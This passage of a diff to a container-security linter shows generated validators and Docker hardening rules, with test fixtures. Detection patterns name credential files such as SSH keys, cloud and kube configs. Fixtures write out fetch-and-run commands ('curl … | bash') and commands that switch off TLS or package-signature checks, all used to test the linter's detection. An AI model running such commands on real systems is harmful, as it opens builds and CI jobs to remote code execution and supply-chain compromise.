-var pattern68 = new RegExp("^RULE #\\d+[a-z]?$", "u");
-var pattern69 = new RegExp("^[A-Za-z]+$", "u");
-var pattern70 = new RegExp("^https://", "u");
-var pattern71 = new RegExp("^[A-Za-z][A-Za-z0-9]*$", "u");
+var func71 = Object.prototype.hasOwnProperty;
+var pattern67 = func0("^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$", "u");
+var pattern68 = func0("^RULE #\\d+[a-z]?$", "u");
+var pattern69 = func0("^[A-Za-z]+$", "u");
+var pattern70 = func0("^https://", "u");
+var pattern71 = func0("^[A-Za-z][A-Za-z0-9]*$", "u");
 function validate106(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   ;
   let vErrors = null;
@@ -31592,7 +38489,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
       errors++;
     }
     for (const key0 in data) {
-      if (!func5.call(schema119.properties, key0)) {
+      if (!func71.call(schema119.properties, key0)) {
         const err10 = { instancePath, schemaPath: "#/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key0 }, message: "must NOT have additional properties" };
         if (vErrors === null) {
           vErrors = [err10];
@@ -31627,7 +38524,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.title !== void 0) {
       let data1 = data.title;
       if (typeof data1 === "string") {
-        if (func2(data1) < 1) {
+        if (func68(data1) < 1) {
           const err13 = { instancePath: instancePath + "/title", schemaPath: "#/properties/title/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err13];
@@ -31697,7 +38594,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.message !== void 0) {
       let data6 = data.message;
       if (typeof data6 === "string") {
-        if (func2(data6) < 1) {
+        if (func68(data6) < 1) {
           const err19 = { instancePath: instancePath + "/message", schemaPath: "#/properties/message/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err19];
@@ -31719,7 +38616,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.rationale !== void 0) {
       let data7 = data.rationale;
       if (typeof data7 === "string") {
-        if (func2(data7) < 1) {
+        if (func68(data7) < 1) {
           const err21 = { instancePath: instancePath + "/rationale", schemaPath: "#/properties/rationale/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err21];
@@ -31741,7 +38638,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.remediation !== void 0) {
       let data8 = data.remediation;
       if (typeof data8 === "string") {
-        if (func2(data8) < 1) {
+        if (func68(data8) < 1) {
           const err23 = { instancePath: instancePath + "/remediation", schemaPath: "#/properties/remediation/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err23];
@@ -31984,7 +38881,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
             if (data16.description !== void 0) {
               let data17 = data16.description;
               if (typeof data17 === "string") {
-                if (func2(data17) < 1) {
+                if (func68(data17) < 1) {
                   const err45 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1") + "/description", schemaPath: "#/properties/params/additionalProperties/properties/description/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
                   if (vErrors === null) {
                     vErrors = [err45];
@@ -32092,7 +38989,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
             if (data20.file !== void 0) {
               let data21 = data20.file;
               if (typeof data21 === "string") {
-                if (func2(data21) < 1) {
+                if (func68(data21) < 1) {
                   const err55 = { instancePath: instancePath + "/tests/" + i1 + "/file", schemaPath: "#/properties/tests/items/properties/file/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
                   if (vErrors === null) {
                     vErrors = [err55];
@@ -32356,19 +39253,19 @@ var validators = [
   ['{"required":["read_only"],"properties":{"read_only":{"const":true}}}', v24],
   ['{"properties":{"user":{"not":{"pattern":"^(root|0)(:.*)?$"}}},"if":{"required":["build"]},"then":{"required":["user"]}}', v25],
   ['{"properties":{"origin":{"enum":["compose-service","docker-cli"]}}}', v26],
-  ['{"properties":{"environment":{"patternProperties":{"^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$":{"not":{"type":"string","pattern":"^[^$]+$"}}}}}}', v27],
+  ['{"properties":{"environment":{"patternProperties":{"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))":{"not":{"type":"string","pattern":"^[^$]+$"}}}}}}', v27],
   ['{"properties":{"volumes":{"items":{"not":{"required":["type","source"],"properties":{"type":{"const":"bind"},"source":{"pattern":"^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$","not":{"pattern":"^(/var)?/run/docker\\\\.sock/?$"}}},"not":{"required":["read_only","source"],"properties":{"read_only":{"const":true},"source":{"pattern":"^/etc/(localtime|timezone)$"}}}}}}}}', v28],
   ['{"properties":{"sysctls":{"patternProperties":{"^net\\\\.ipv4\\\\.ip_forward$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.forwarding$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(route_localnet|accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.rp_filter$":{"not":{"const":"0"}},"^net\\\\.ipv4\\\\.ip_unprivileged_port_start$":{"not":{"const":"0"}}}}}}', v29],
   ['{"properties":{"tmpfs":{"items":{"not":{"pattern":"[:,](exec|suid)(,|$)"}}}}}', v30],
   ['{"properties":{"origin":{"enum":["compose-service"]}},"not":{"required":["build"]}}', v31],
   ['{"required":["user"]}', v32],
   ['{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"pattern":"^https?://"}]},"flags":{"not":{"required":["checksum"]}}}}}}}}', v33],
-  ['{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)(?=[^/]*service-account)[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"}}}}}}}}}', v34],
+  ['{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)[^/]*service-account[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"}}}}}}}}}', v34],
   ['{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ENV","ARG","RUN"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$"}}}}}}}}}', v35],
   ['{"properties":{"isFinal":{"const":true}}}', v36],
   ['{"required":["user"],"properties":{"user":{"not":{"pattern":"^\\\\s*(root|0+)(:.*|\\\\s*)$"}}}}', v37],
   ['{"properties":{"instructions":{"items":{"properties":{"flags":{"properties":{"security":{"items":{"not":{"const":"insecure"}}},"network":{"items":{"not":{"const":"host"}}}}}}}}}}', v38],
-  ['{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(?=[A-Za-z0-9_]*(=|$))(?![A-Za-z0-9_]*(^|_)(PUBLIC|public|Public)(_|=|$))(?![A-Za-z0-9_]*_(FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type)(=|$))([A-Za-z0-9]+_)*(PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(_[A-Za-z0-9_]*)?(=|$)"}}}}}}}}}', v39],
+  ['{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type))(?:=|$)"}}}}}}}}}', v39],
   ['{"properties":{"expose":{"items":{"not":{"pattern":"^22(/tcp)?$"}}},"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["RUN","CMD","ENTRYPOINT"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$"}}}}}}}}}', v40],
   ['{"not":{"properties":{"origin":{"const":"compose-service"}}}}', v41],
   ['{"properties":{"isVariable":{"const":false}}}', v42],
@@ -32418,7 +39315,7 @@ var validators = [
   ['{"$id":"https://containment.dev/schemas/rule.json","type":"object","additionalProperties":false,"required":["id","title","severity","subject","schema","message","rationale","remediation","references","tests"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"severity":{"enum":["critical","high","medium","low","info"]},"subject":{"enum":["container","image","command","dockerfile","dockerfile.stage","compose","workflow","workflow.job","workflow.step","action-ref"]},"when":{"type":"object"},"schema":{"type":"object"},"message":{"type":"string","minLength":1},"rationale":{"type":"string","minLength":1},"remediation":{"type":"string","minLength":1},"references":{"type":"array","minItems":1,"items":{"type":"object","minProperties":1,"maxProperties":1,"additionalProperties":false,"properties":{"cis-docker":{"type":"string","pattern":"^\\\\d+\\\\.\\\\d+\\\\.\\\\d+:\\\\d+(\\\\.\\\\d+)*$"},"owasp-docker":{"type":"string","pattern":"^RULE #\\\\d+[a-z]?$"},"docker-build-check":{"type":"string","pattern":"^[A-Za-z]+$"},"url":{"type":"string","pattern":"^https://"}}}},"params":{"type":"object","propertyNames":{"pattern":"^[A-Za-z][A-Za-z0-9]*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["description","schema","default"],"properties":{"description":{"type":"string","minLength":1},"schema":{"type":"object"},"default":{}}}},"tests":{"type":"array","minItems":2,"items":{"type":"object","additionalProperties":false,"required":["file","content","expect"],"properties":{"file":{"type":"string","minLength":1},"content":{"type":"string"},"files":{"type":"object","additionalProperties":{"type":"string"}},"expect":{"type":"array","items":{"type":"object","additionalProperties":false,"required":["line","column"],"properties":{"line":{"type":"integer","minimum":1},"column":{"type":"integer","minimum":1},"endLine":{"type":"integer","minimum":1},"endColumn":{"type":"integer","minimum":1}}}}}}}}}', v86]
 ];
 function precompiled() {
-  packs ??= JSON.parse('[{"id":"docker","title":"Docker runtime and image security","description":"What Docker\'s own security guidance, the CIS Docker Benchmark v1.6.0 (sections 4 and 5) and the OWASP Docker Security Cheat Sheet ask of every container and image, wherever it is described: Compose services, workflow job and service containers, `docker run` in scripts, Dockerfiles.","version":"0.1.0","rules":[{"id":"command-chmod-insecure","pack":"docker","title":"Build makes files world-writable or adds setuid/setgid bits","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"if":{"properties":{"name":{"const":"chmod"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"insecureMode"}}}}}}},"message":"`chmod {{value}}` makes files in the image world-writable or setuid/setgid, so any process in the container can replace them, or a bug in a setuid program becomes root. Give the files to the user that needs them (`COPY --chown`, `chown`) with a mode such as `755` or `644`.","rationale":"World-writable files and directories let any user in the container alter programs and configuration that others (including root) then run; `chmod 777` is usually a shortcut around an ownership problem. Setuid and setgid bits give a program its owner\'s or group\'s privileges whoever runs it, which makes every bug in it a privilege escalation. The CIS Docker Benchmark (4.8) asks that setuid and setgid permissions be removed from images. The sticky-bit mode `1777` (a shared temp directory) is not reported.","remediation":"Give ownership to the runtime user instead of opening the permissions to everyone:\\n\\n```dockerfile\\nCOPY --chown=10001:10001 app/ /app/\\nRUN mkdir -p /app/data && chown 10001:10001 /app/data && chmod 750 /app/data\\nUSER 10001\\n```\\n\\nTo strip setuid and setgid bits from a base image:\\n`RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} + || true`.","references":[{"framework":"cis-docker","id":"1.6.0:4.8"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"insecureMode":"^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s"},"paramSchemas":{"insecureMode":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Octal modes that let everyone write (the last digit has the write bit, without the sticky bit that makes /tmp-style directories safe) or that set setuid/setgid; symbolic `o+w`, `a+w`, `a=rwx`, `u+s`, `g+s`."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/data && chmod -R 777 /app/data\\nRUN chmod u+s /usr/local/bin/helper\\nRUN [\\"chmod\\", \\"4755\\", \\"/usr/local/bin/backup\\"]\\nRUN chmod a+rw /etc/app.conf\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49},{"line":3,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/tmp && chmod 1777 /app/tmp \\\\\\n && chmod 755 /usr/local/bin/entrypoint.sh \\\\\\n && chmod go-w /etc/app.conf \\\\\\n && chmod a-s /usr/bin/newgrp \\\\\\n && chmod u+x,g+x /usr/local/bin/run\\n","expect":[]}],"source":"policies/docker/command-chmod-insecure.yaml"},{"id":"command-download-piped-to-shell","pack":"docker","title":"Downloaded script piped straight into a shell","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"enum":{"$param":"downloaders"}}}},"then":{"properties":{"pipedTo":{"not":{"enum":{"$param":"shells"}}}}}},{"if":{"properties":{"name":{"enum":["sh","bash","dash","ash","zsh","ksh","mksh","eval"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"substitutedDownload"}}}}}}}]},"message":"`{{subject.name}}` runs a script fetched from the network without checking it, so whoever controls that URL (or the connection) runs code here, with this build\'s or job\'s access. Download to a file, verify its checksum or signature, then run it, or install the tool from a package with a pinned version.","rationale":"`curl \u2026 | sh` executes whatever the server returns at that moment: a compromised or hijacked host, a changed install script or a truncated download runs with the privileges of the build (root, in most Dockerfiles) or of the CI job (with its token and secrets). Nothing in the repository records what ran, so the result cannot be reproduced or audited. The CIS Docker Benchmark (4.11) asks that only verified packages be installed, and the OWASP cheat sheet (rule 9) treats unverified downloads as a supply-chain risk.","remediation":"Fetch a pinned version to a file, check it against a published digest, then run it:\\n\\n```dockerfile\\nARG INSTALLER_SHA256=<sha256 of install.sh at v1.2.0>\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"${INSTALLER_SHA256}  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh && rm /tmp/install.sh\\n```\\n\\nBetter still, install the tool from the distribution\'s package manager or copy it from a\\npinned image (`COPY --from=ghcr.io/example/tool:1.2.0@sha256:\u2026 /tool /usr/local/bin/`).","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"owasp-docker","id":"RULE #9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{"downloaders":["curl","wget"],"shells":["sh","bash","dash","ash","zsh","ksh","mksh","python","python3","perl","ruby","node","php"],"substitutedDownload":"^\\\\$\\\\((curl|wget)\\\\s"},"paramSchemas":{"downloaders":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Programs that download a URL (command names, as the command subject gives them)."},"shells":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Interpreters that run what they read on standard input (or in `-c \\"$(\u2026)\\"`)."},"substitutedDownload":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An argument that runs a download\'s output: `sh -c \\"$(curl \u2026)\\"`, `eval \\"$(wget -O- \u2026)\\"`."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN wget -qO- https://get.example.com/install.sh | sudo sh\\nRUN sh -c \\"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\\"\\n","expect":[{"line":3,"column":2,"endLine":3,"endColumn":62},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh\\nRUN curl -fsSL https://example.com/data.json | jq .version\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b /usr/local/bin\\n          golangci-lint run\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL https://api.github.com/repos/example/app/releases/latest | jq -r .tag_name\\n","expect":[]}],"source":"policies/docker/command-download-piped-to-shell.yaml"},{"id":"command-tls-verification-disabled","pack":"docker","title":"Command turns off TLS certificate or package signature checks","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"const":"curl"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--insecure$|-[a-zA-Z]*k)"}}}}}},{"if":{"properties":{"name":{"const":"wget"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--no-check-certificate"}}}}}},{"if":{"properties":{"name":{"enum":["apt-get","apt","aptitude"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$"}}}}}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf","zypper"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$"}}}}}},{"if":{"properties":{"name":{"const":"rpm"}}},"then":{"properties":{"args":{"items":{"not":{"enum":["--nosignature","--nodigest"]}}}}}},{"if":{"properties":{"name":{"const":"apk"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--allow-untrusted"}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3","python","python3","uv"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--trusted-host(=|$)"}}}}}},{"if":{"properties":{"name":{"enum":["npm","yarn","pnpm"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--)?strict-ssl(=false)?$"}}}}}},{"if":{"properties":{"name":{"const":"git"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^http\\\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$"}}}}}}]},"message":"`{{subject.name}}` is told to skip certificate or signature checks (`{{value}}`), so anyone who can intercept or spoof the server can hand it different code or packages. Remove the option and fix the trust problem instead: install the CA certificate, or import the repository\'s signing key.","rationale":"TLS certificates and package signatures are what tie a download to its publisher. Options such as `curl -k`, `wget --no-check-certificate`, `apt-get --allow-unauthenticated`, `--nogpgcheck`, `apk --allow-untrusted`, `pip --trusted-host`, npm\'s `strict-ssl false` and git\'s `http.sslVerify=false` accept whatever answers, which turns a network position (a proxy, a rogue Wi-Fi, a poisoned DNS entry, a compromised mirror) into code execution in the image or the CI job. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Keep verification on and give the tool what it needs to verify:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates \\\\\\n && curl -fsSLo /tmp/tool.tgz https://tools.example.com/tool-1.2.0.tgz\\n```\\n\\nFor a third-party package repository, import its signing key (`signed-by=` in the apt source)\\ninstead of allowing unauthenticated packages.","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSLk https://tools.example.com/tool.tgz -o /tmp/tool.tgz \\\\\\n && wget --no-check-certificate -q https://example.com/a.tgz\\nRUN apt-get install -y --allow-unauthenticated internal-agent\\nRUN pip install --trusted-host pypi.example.com internal-lib==1.0\\nRUN git -c http.sslVerify=false clone https://git.example.com/app.git\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":68},{"line":3,"column":2},{"line":4,"column":1},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache --allow-untrusted /tmp/pkgs/*.apk\\nRUN npm config set strict-ssl false\\n","expect":[{"line":2,"column":1},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSL -o /tmp/tool.tgz https://tools.example.com/tool.tgz \\\\\\n && git -c http.sslVerify=true clone https://github.com/example/app.git\\nRUN apt-get install -y --no-install-recommends ca-certificates\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN sort -k 2 /etc/passwd\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl --insecure -fsSL https://staging.example.com/healthz\\n          git -c http.sslVerify=true fetch origin\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL --cacert ./ca.pem https://staging.example.com/healthz\\n","expect":[]}],"source":"policies/docker/command-tls-verification-disabled.yaml"},{"id":"container-capabilities-not-dropped","pack":"docker","title":"Container keeps Docker\'s default capabilities (no cap_drop ALL)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"cap_drop":{"not":{"items":{"not":{"const":"ALL"}}}}}},"message":"{{name}} keeps Docker\'s default capabilities (CHOWN, DAC_OVERRIDE, FOWNER, SETUID, NET_RAW, \u2026), which a compromised process can use to change file ownership, switch users or craft raw packets. Add `cap_drop: [ALL]` and add back with `cap_add` only what the service needs.","rationale":"Docker grants every container fourteen capabilities by default, chosen for compatibility, not for any particular workload. Most services need none or one of them (`NET_BIND_SERVICE` for a port below 1024). `NET_RAW` alone allows ARP and DNS spoofing on the container network, and `DAC_OVERRIDE`, `FOWNER`, `SETUID` and `SETGID` make a compromise inside the container easier to turn into root. The CIS Docker Benchmark and the OWASP cheat sheet ask to drop every capability and add back only the required ones. Informational by default: images that switch users or change file ownership at start-up need a few capabilities added back, which takes testing.","remediation":"Drop all capabilities and add back only what the service needs:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nShared hardening can live in an `x-` block merged into every service with `<<: *hardening`.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    cap_drop: [NET_RAW]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  cap_drop: [all]\\nservices:\\n  api:\\n    <<: *hardening\\n    image: ghcr.io/example/api:1.4.2\\n  web:\\n    image: nginx:1.27\\n    cap_drop:\\n      - ALL\\n    cap_add:\\n      - NET_BIND_SERVICE\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-capabilities-not-dropped.yaml"},{"id":"container-cgroup-host","pack":"docker","title":"Container uses the host\'s cgroup namespace or a custom cgroup parent","severity":"medium","subject":"container","schema":{"properties":{"cgroup":{"not":{"const":"host"}},"cgroup_parent":false}},"message":"{{name}} sets `{{key}}`, which takes it out of the cgroup Docker manages for it, so its resource limits and accounting depend on a cgroup outside Docker\'s control (or, with `cgroup: host`, it sees the host\'s whole cgroup tree). Remove the setting unless the host\'s cgroup layout was designed for it.","rationale":"Docker places each container in its own cgroup under the daemon\'s parent, which is where its memory, CPU and PID limits are enforced. `cgroup_parent` moves it under another cgroup whose limits this file does not show, and `cgroup: host` shares the host\'s cgroup namespace, exposing every host cgroup to the container (and, with a writable cgroupfs, a known escape path). The CIS Docker Benchmark (5.25) asks that cgroup usage be confirmed and that the default be kept.","remediation":"Remove `cgroup_parent` and `cgroup: host` (or `--cgroup-parent`, `--cgroupns host`) and let\\nDocker manage the container\'s cgroup; set limits with `mem_limit`, `cpus` and `pids_limit`:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n    mem_limit: 512m\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.25"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#cgroup"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  monitor:\\n    image: ghcr.io/example/monitor:1.0.0\\n    cgroup: host\\n  batch:\\n    image: ghcr.io/example/batch:1.0.0\\n    cgroup_parent: /batch.slice\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":17},{"line":7,"column":5}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --cgroupns=host ghcr.io/example/monitor:1.0.0\\n          docker run --rm --cgroup-parent /ci.slice alpine:3.20 